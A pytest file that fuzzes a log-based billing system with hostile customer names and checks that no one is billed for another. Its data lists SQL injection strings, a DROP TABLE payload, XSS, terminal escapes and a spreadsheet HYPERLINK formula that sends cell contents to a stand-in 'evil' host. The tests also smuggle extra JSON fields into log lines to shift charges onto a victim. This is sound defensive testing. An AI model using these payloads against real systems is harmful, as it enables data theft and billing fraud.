"""Customers who write log lines on purpose: names that inject, collide, overflow or turn text around, from the event to every
form of the bill. Nobody pays for another, and no report lies. (What breaks a line itself: test_lines.py.)"""

import csv
import io
import json
import random
import unicodedata
import urllib.parse
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any

import pytest
from close_world import MORE, Books
from rollup_world import World
from test_lines import audited, bill, line, send, usage

VICTIM = "victim"
NAMES = [  # by hand; more by chance, below
    "Victim", "victim ", " victim", "victim\u200b", "victim\u0301", "v\u0456ctim",  # look alike
    "victim' OR '1'='1", "'; DROP TABLE restapi_access_log_parquet; --", "victim\\", "victim\\' --", "${account}", "%s%n", "victim/*", "*",  # SQL, formats
    "=victim", '=HYPERLINK("http://evil/?"&A1)', "+1", "-1+1", "@SUM(A1)", "'=1", "\tvictim",  # spreadsheets
    "<script>alert(1)</script>", "&lt;", "victim\", \"calls\": 0, \"x\": \"", "- a: b", "!!python/object:x", "a: [b", "# c", "{{7*7}}",  # HTML, JSON, YAML
    "a,b\"c", "a\nvictim,999999,0", "a\r\nb", "\x1b[2J\x1b[31mvictim", "\u202emitciv", "\u2066victim", "\x07", '"\\u0007"', "\x7f", "\u0085",  # CSV, terminals
    "null", "NULL", "true", "0", "1e9", "nan", "unattributed", "total", "2025-10-07", "..", "../../victim", "a=b/c=d",  # words of reports and paths
    "\U0001f4b8" * 50, "x" * 4000, "x" * 4001]


@pytest.fixture
def world(sandbox: Any, spec: Any, api: str) -> World:
    return World(sandbox, spec)


def plain(shown: str) -> str:
    """What could act is shown as JSON has it; so is what looks like that, or both would read alike."""
    return str(json.loads(shown)) if shown.startswith('"') else shown


def test_colliding_ids_take_nothing_from_another(world: World) -> None:
    """The same request id from two customers is two requests, or one; never the other's, and always told the same."""
    books = Books(world)
    send(world, line(requestId="same", sub=VICTIM, responseLength="100"), line(requestId="same", sub="attacker", responseLength="7"),
         line(requestId="mine", sub=VICTIM, responseLength="1"))
    send(world, line(requestId="mine", sub="attacker", responseLength="1000000"))
    found = usage(bill(world))
    assert found[VICTIM][1] <= 101 and found[VICTIM][0] <= 2, found
    assert found.get("attacker", (0, 0))[0] <= 2
    assert found[VICTIM] == (2, 101), found
    # Nor does a sub that is called as the customer somebody else is.
    world.write(more=MORE.format(key=books.key) + "      customers: [{sub: victim, customer: attacker}]\n")
    refused = books.close("2025-10", "--accept-unknown", code=4)
    told = "the sub attacker has no entry in billing.customers"
    assert any(told in reason for reason in refused["reasons"]), refused
    # A bill of that is no more than a draft, in each of its forms, though all its days are final.
    draft = bill(world)
    assert draft["draft"] is True and draft["open_days"] == [] and told in draft["borrowed"], draft
    for form in ("table", "csv", "focus"):
        shown = world.run("bill", "--month", "2025-10", "-o", form)
        assert told in (shown.stdout if form == "table" else shown.stderr), shown
        assert form != "table" or shown.stdout.splitlines()[0].startswith("Draft bill of 2025-10")
    other = world.spec.path.parent / "other.yaml"
    other.write_text("billing: {prices: [{from: 2020-01-01, call: 0.01, gib: 0}], customers: [{sub: victim, customer: attacker}, {sub: attacker, customer: another}]}\n")
    compared = json.loads(world.run("whatif", "--prices", str(other), "--month", "2025-10", "-o", "json").stdout)
    assert [text.split(":")[0] for text in compared["not_final"] if told in text] == ["2025-10 by these prices"], compared
    world.write(more=MORE.format(key=books.key) + "      customers: [{sub: victim, customer: attacker}, {sub: attacker, customer: another}]\n")
    closed = books.close("2025-10", "--accept-unknown")
    assert {one["customer"]: (one["calls"], one["bytes"]) for one in closed["bill"]["lines"]} == {"attacker": (2, 101), "another": (2, 1000007)}


# ---- by chance ----

HONEST = {"victim": 40, "Zo\u00eb": 9, "12": 7, "null": 5, "true": 3, "김철수": 8, "v" * 255: 6}
WIDTHS = (16, 32, 64, 128, 255, 256, 1024, 4096)  # of columns that might cut a name
SPACES = " \t\n\r\x0b\x0c\x00\x7f\x85\xa0\u1680\u2007\u200b\u2028\u202e\u2060\u3000\ufeff"
LENGTHS = {"0": 0, "7": 7, "007": 7, str(8 << 30): 8 << 30, str((8 << 30) + 1): 0, "9" * 18: 0, "9" * 19: 0, "9" * 400: 0, "-": 0, "": 0, "-5": 0, "+5": 0, " 5": 0, "5 ": 0,
           "1e3": 0, "1E999": 0, "1e999": 0, "0x10": 0, "5.0": 0, "NaN": 0, "Infinity": 0, "\uff15": 0, "\u0665": 0, "1_000": 0, "1,000": 0, "null": 0}
TIMES = ["-", "", "1e999", "-1", "0", "9" * 19, "9" * 400, "nan", "\uff11", "0x68e50000", "1759838400000", "001759838400"]
NOISE = ["", "{", "null", "[]", '"victim"', '{"sub":"victim"}', '{"sub":"victim","status":"200" "responseLength":"1"}', "victim", '{"requestid":"r","SUB":"victim"}']
STATUSES = ["200", "-", "", "1e999", "9" * 30, "-200", "0200", "2xx", "null", "*", "' OR 1=1 --"]


def lookalikes(chance: random.Random, name: str) -> set[str]:
    """Names that are not that one, whatever trims, folds, normalizes, cuts or unescapes them."""
    at = chance.randrange(len(name))
    found = {name + chance.choice(SPACES), chance.choice(SPACES) + name, name[:at] + chance.choice(SPACES) + name[at:], name.swapcase(), name.title(), name.casefold(),
             *(unicodedata.normalize(form, name) for form in ("NFC", "NFD", "NFKC", "NFKD")), *(name.ljust(width, "x") + end for width in WIDTHS for end in "12"),
             "".join(f"\\u{ord(c):04x}" for c in name), urllib.parse.quote(name), f'"{name}"', f"'{name}'", f"{name}\\", f"\\{name}", f"{name},{name}", f"{name}\x00{name}",
             f"{name}\",\"sub\":\"x", f"={name}", f"'={name}", "".join(chr(ord(c) + 0xfee0) if "!" <= c <= "~" else c for c in name), name[::-1] + "\u202e"}
    return {one for one in found if one not in HONEST and one.strip("-") not in ("", )}


def spelled(chance: random.Random, text: str) -> str:
    """The same text as JSON may write it."""
    return "".join(f"\\u{ord(c):04{chance.choice('xX')}}" if ord(c) < 0x10000 and chance.random() < 0.3 else json.dumps(c, ensure_ascii=chance.random() < 0.5)[1:-1]
                   for c in text)


@dataclass
class Hostile:
    """Lines, and by what each says of itself: who pays, for how many bytes."""
    chance: random.Random
    lines: list[str] = field(default_factory=list)
    truth: dict[str, list[int]] = field(default_factory=dict)

    def add(self, sub: str, length: str = "100", bytes: int | None = None, count: bool = True, again: int = 1, form: str = "", **values: Any) -> None:
        number = len(self.lines)
        text = line(**{"requestId": f"h{number}", "responseLength": length, "sub": "SUB", "username": "USER", **values})
        text = text.replace('"SUB"', form or f'"{spelled(self.chance, sub)}"').replace('"USER"', '"' + spelled(self.chance, self.chance.choice([*HONEST, sub])) + '"')
        self.lines += [text] * again
        if count:
            paid = self.truth.setdefault(sub, [0, 0])
            paid[0] += 1
            paid[1] += LENGTHS.get(length, 100) if bytes is None else bytes


def hostile(seed: int) -> Hostile:
    made = Hostile(random.Random(seed))
    chance = made.chance
    for name, calls in HONEST.items():
        for _ in range(calls):
            made.add(name)
    names = sorted({one for name in HONEST for one in lookalikes(chance, name)})
    names = sorted({*chance.sample(names, 120), *NAMES})
    for name in names:
        made.add(name, length=chance.choice(list(LENGTHS)), status=chance.choice(STATUSES), requestTimeEpoch=chance.choice(TIMES),
                 path="/" + chance.choice(names)[:300], routeKey="GET /" + chance.choice(names)[:300])
    for nobody in ('"-"', '""', "null", "[\"victim\"]", '{"victim":"victim"}'):
        made.add("", form=nobody)
    for value in ("12", "true"):  # a claim that is no text
        made.add(value, form=value)
    for number, name in enumerate(chance.sample(names, 40)):  # the attacker's own line, and what he puts into it
        victim = chance.choice(list(HONEST))
        made.add(name, form=f'{json.dumps(name)},"sub":{json.dumps(victim)}')  # the first of a name holds
        made.add(name, path='/x"PATH')
        made.lines[-1] = made.lines[-1].replace('\\"PATH', f'","sub":{json.dumps(victim)},"responseLength":"999999","x":"' + chance.choice(("", "y\"z")))
        made.add(name, requestId=f"same-{number}")  # the victim's id
        made.add(victim, requestId=f"same-{number}")
        made.add(name, requestId=f"copy-{number}", again=3)
        made.add(name, requestId=chance.choice(("-", "")), path=f"/{number}")
    made.add("long" + "x" * 10_000)  # as much as a header holds
    chance.shuffle(made.lines)
    return made


@pytest.mark.parametrize("seed", [20261130])
def test_a_hostile_month(world: World, seed: int) -> None:
    """Some hundred names, claims, lengths and times by chance, from the event through bill, table, audit, close and proof: who pays what
    is known from making them, not from reading them."""
    books = Books(world)
    world.write(prices="{from: 2020-01-01, call: 0.01, gib: 0}")
    world.apply()
    made = hostile(seed)
    assert len(made.truth) > 150
    send(world, *made.lines)
    world.run("rollup", "--month", "2025-10")
    found = json.loads(world.run("bill", "--month", "2025-10", "-o", "json").stdout)
    shown = usage(found)
    paid = {plain(name): list(one) for name, one in shown.items()}
    wrong = {name[:80]: (paid.get(name), made.truth.get(name)) for name in paid.keys() | made.truth.keys() if paid.get(name) != made.truth.get(name)}
    assert wrong == {} and len(shown) == len(made.truth)
    totals = {plain(one["customer"]): Decimal(one["total"]) for one in found["lines"]}
    assert totals == {name: Decimal(calls) / 100 for name, (calls, _) in made.truth.items() if name}
    calls = sum(paid[0] for paid in made.truth.values())
    rows = [row for row in csv.DictReader(io.StringIO(world.run("bill", "--month", "2025-10", "-o", "csv").stdout, newline="")) if row["line"] == "customer"]
    assert {row["customer"]: int(row["calls"]) for row in rows} == {
        ("'" + name if name[0] in "=+-@'" else name): one[0] for name, one in shown.items() if name}
    assert sum(int(row["calls"]) for row in rows) == calls - made.truth[""][0]
    assert not any(row["customer"][:1] in tuple("=+-@\t\r") for row in rows)
    table = world.run("bill", "--month", "2025-10").stdout
    assert not [c for c in table if c != "\n" and (ord(c) < 32 or 0x7f <= ord(c) < 0xa0 or c in "\u200e\u200f\u2028\u2029\u202e\u2066\ufeff")]
    closed = books.close("2025-10", "--accept-unknown")
    assert {plain(one["customer"]): one["calls"] for one in closed["bill"]["lines"]} == {name: paid[0] for name, paid in made.truth.items() if name}
    assert books.verify("2025-10", "--from-raw")["verified"] is True
    send(world, *NOISE)  # billed to nobody, and told
    assert "8 invalid (no access log line of the view's form), 1 blank" in audited(world)
